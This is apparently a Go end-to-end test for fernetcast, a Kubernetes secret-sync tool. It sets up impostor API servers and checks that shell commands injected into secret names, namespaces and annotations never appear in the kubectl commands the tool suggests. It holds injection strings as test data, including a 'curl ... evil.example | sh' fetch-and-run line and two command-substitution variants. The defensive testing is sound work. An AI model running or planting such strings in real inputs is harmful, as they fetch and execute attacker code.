package regions

import (
	"crypto/tls"
	"encoding/pem"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/fernetcast/fernetcast/e2e/testenv"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

// shellText is a shell command that must not appear in a command that an operator might paste.
const shellText = "x; curl -s http://evil.example/x | sh #"

// TestCommandsAreOurOwn checks a server that poses as a remote. Its responses have an unreadable
// stamp, and a shell command in the names. fernetcast must not accept such a response as a copy,
// and must not show the command. A real API server can return such text only in annotations. In
// that case, the command that fernetcast suggests must contain only fernetcast's own flags and
// names, and must work.
func TestCommandsAreOurOwn(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	keys := w.keys()
	w.promote()
	unreadable := map[string]string{"fernetcast/region": shellText, "fernetcast/term": "$(curl evil.example)", "fernetcast/source-uid": "`curl evil.example`"}
	answer := func(name, namespace string) *corev1.Secret {
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{
			Name: name, Namespace: namespace, UID: "a-uid", ResourceVersion: "7", Annotations: unreadable,
		}, Type: corev1.SecretTypeOpaque, Data: shared.Keys.NewRepository(3, 3)}
	}
	impostors := map[string]*impostor{
		"namespace":          {reads: answer(testenv.SecretName, shellText)},
		"name":               {reads: answer(testenv.SecretName+shellText, w.NS)},
		"namespace-on-write": {writes: answer(testenv.SecretName, shellText)},
		"name-on-write":      {writes: answer(shellText, w.NS)},
	}
	names := []string{"real"}
	for name, i := range impostors {
		names = append(names, name)
		w.impostor(name, "", nil, i)
	}
	real := w.outpost("real", "dfw")
	(&borrower{outpost: real}).put(shared.Keys.NewRepository(3, 3), corev1.SecretTypeOpaque, unreadable)

	run := w.run("--backoff-max", "1s", "--resync", "1s")
	for name := range impostors {
		run.shows(name, "Failed", "a different Secret")
	}
	command := "kubectl --context real --namespace " + real.ns + " annotate secret " + testenv.SecretName + " fernetcast/region- fernetcast/term- fernetcast/source-uid-"
	run.shows("real", "Held", command)
	st, err := run.status(w.Ctx)
	w.Must(err)
	if detail := st.Remote("real").Detail; !strings.HasSuffix(detail, command) {
		t.Errorf("the detail does not end with the expected command: %s", detail)
	}
	w.says(1, []string{command, "different Secret"}, "status")
	w.says(1, []string{command, "different Secret"}, "status", "-o", "json")
	w.says(1, []string{"different Secret", "name: NOT REACHED", "namespace: NOT REACHED"}, "promote", mainRegion, "--yes")
	for _, output := range []string{
		run.Stderr.String(), w.exits(1, "status"), w.exits(1, "status", "-o", "json"), w.exits(1, "push"), w.exits(1, "promote", mainRegion, "--yes"),
	} {
		for _, text := range []string{"curl", "evil", "| sh"} {
			if at := strings.Index(output, text); at >= 0 {
				t.Errorf("the output contains %q: %.200s", text, output[max(0, at-100):])
			}
		}
	}

	// Make the same change as the suggested command.
	w.Must(real.cluster.Edit(w.Ctx, real.ns, "kubectl-annotate", func(s *corev1.Secret) {
		for _, name := range strings.Fields(command)[6:] {
			delete(s.Annotations, strings.TrimSuffix(name, "-"))
		}
	}))
	w.arrived(real.history, keys)
	run.shows("real", "Synced", "")
	slices.Sort(names)
	for _, name := range names[:len(names)-1] {
		if s := st.Remote(name); s == nil || s.Primary != nil {
			t.Errorf("%s is reported as a copy", name)
		}
	}
}

// impostor is a test server that responds in protobuf, as an API server does.
type impostor struct {
	// reads and writes are the responses to all reads and writes. If reads is nil, the Secret is
	// absent. If writes is nil, every write is rejected.
	reads, writes *corev1.Secret
	// first, unless nil, handles each request first. It reports whether it responded. If not, the
	// other fields apply.
	first func(http.ResponseWriter, *http.Request) bool
}

// impostor starts server i, and gives fernetcast a kubeconfig for it as a remote. If certificate is
// nil, the server uses httptest's certificate.
func (w *world) impostor(name, serverName string, certificate *tls.Certificate, i *impostor) {
	w.Helper()
	server := httptest.NewUnstartedServer(i)
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.EnableHTTP2 = i.first == nil // HTTP/2 would keep first from hijacking the connection
	if certificate != nil {
		server.TLS = &tls.Config{Certificates: []tls.Certificate{*certificate}}
	}
	server.StartTLS()
	w.Cleanup(func() {
		server.CloseClientConnections()
		server.Close()
	})
	ca := server.Certificate().Raw
	if certificate != nil {
		ca = certificate.Certificate[len(certificate.Certificate)-1]
	}
	kubeconfig, err := kubeconfigFor(server.URL, serverName, ca)
	w.Must(err)
	w.Must(testenv.WriteFile(w.Clusters, name+".yaml", kubeconfig))
}

// kubeconfigFor returns a kubeconfig for a test server. ca is the CA certificate in DER format.
func kubeconfigFor(address, serverName string, ca []byte) ([]byte, error) {
	return clientcmd.Write(clientcmdapi.Config{
		Clusters: map[string]*clientcmdapi.Cluster{"c": {
			Server: address, TLSServerName: serverName, CertificateAuthorityData: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ca}),
		}},
		AuthInfos:      map[string]*clientcmdapi.AuthInfo{"u": {Token: "a-token"}},
		Contexts:       map[string]*clientcmdapi.Context{"x": {Cluster: "c", AuthInfo: "u"}},
		CurrentContext: "x",
	})
}

// ServeHTTP implements [http.Handler].
func (i *impostor) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	query := r.URL.Query()
	switch {
	case i.first != nil && i.first(w, r):
	case query.Has("watch"):
		w.Header().Set("Content-Type", testenv.Protobuf+";stream=watch")
		_ = http.NewResponseController(w).Flush()
		<-r.Context().Done()
	case r.Method != http.MethodGet && i.writes == nil:
		status(w, http.StatusForbidden, metav1.Status{Message: "no"})
	case r.Method != http.MethodGet:
		testenv.Answer(w, http.StatusOK, i.writes)
	case query.Has("fieldSelector") && i.reads == nil:
		testenv.Answer(w, http.StatusOK, &corev1.SecretList{ListMeta: metav1.ListMeta{ResourceVersion: "7"}})
	case query.Has("fieldSelector"):
		testenv.Answer(w, http.StatusOK, &corev1.SecretList{ListMeta: metav1.ListMeta{ResourceVersion: "7"}, Items: []corev1.Secret{*i.reads}})
	case i.reads == nil:
		testenv.Answer(w, http.StatusNotFound, testenv.Absent())
	default:
		testenv.Answer(w, http.StatusOK, i.reads)
	}
}
